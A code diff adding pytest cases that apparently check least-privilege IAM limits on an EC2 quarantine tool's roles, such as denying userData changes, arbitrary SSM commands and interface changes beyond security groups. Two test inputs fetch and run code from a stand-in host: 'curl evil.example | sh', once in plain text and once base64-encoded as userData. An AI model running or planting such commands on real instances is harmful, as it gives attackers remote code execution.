@@ -49,6 +49,8 @@ def test_contain_sets_only_the_attributes_it_protects_never_user_data(every_opti
                 InstanceType={"Value": "x2iedn.32xlarge"})
         _denied(ec2.modify_instance_attribute, InstanceId=instance,
                 SourceDestCheck={"Value": False})
+        _denied(ec2.modify_instance_attribute, InstanceId=instance, Attribute="userData",
+                Value="IyEvYmluL3NoCmN1cmwgZXZpbC5leGFtcGxlIHwgc2gK")  # the generic form
         ec2.modify_instance_attribute(InstanceId=instance,
                                       DisableApiTermination={"Value": True})
         ec2.modify_instance_attribute(InstanceId=instance,
@@ -121,3 +123,30 @@ def test_memory_capture_runs_its_document_and_no_other(every_option):
                 Parameters={"commands": ["curl evil.example | sh"]})
         ssm.send_command(InstanceIds=[instance],
                          DocumentName=permissions.EVERY_OPTION["MEMORY_CAPTURE_DOCUMENT"])
+
+
+@pytest.mark.parametrize("function", ["contain", "release"])
+def test_an_interface_gets_its_groups_changed_and_nothing_else(every_option, function):
+    """Never a public address, source/dest check off (routing others' traffic), an attachment
+    or tracking change: on the interface, the groups alone."""
+    stack = every_option
+    victim = make_victim(stack, interfaces=1, volumes=1)
+    (eni,) = victim["interfaces"]
+    ec2_admin = stack.client("ec2")
+    group = ec2_admin.create_security_group(
+        GroupName="ec2-quarantine-isolation", Description="isolation", VpcId=victim["vpc_id"],
+        TagSpecifications=[{"ResourceType": "security-group", "Tags": [
+            {"Key": "ec2-quarantine", "Value": "isolation"}]}])["GroupId"]
+    with stack.enforce_iam():
+        ec2 = _as(stack, function, "ec2")
+        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni,
+                SourceDestCheck={"Value": False})
+        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni,
+                AssociatePublicIpAddress=True)
+        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni, Groups=[group],
+                Description={"Value": "also this"})
+        ec2.modify_network_interface_attribute(NetworkInterfaceId=eni, Groups=[group])
+    described = ec2_admin.describe_network_interfaces(NetworkInterfaceIds=[eni])[
+        "NetworkInterfaces"][0]
+    assert [g["GroupId"] for g in described["Groups"]] == [group]
+    assert described["SourceDestCheck"] is True
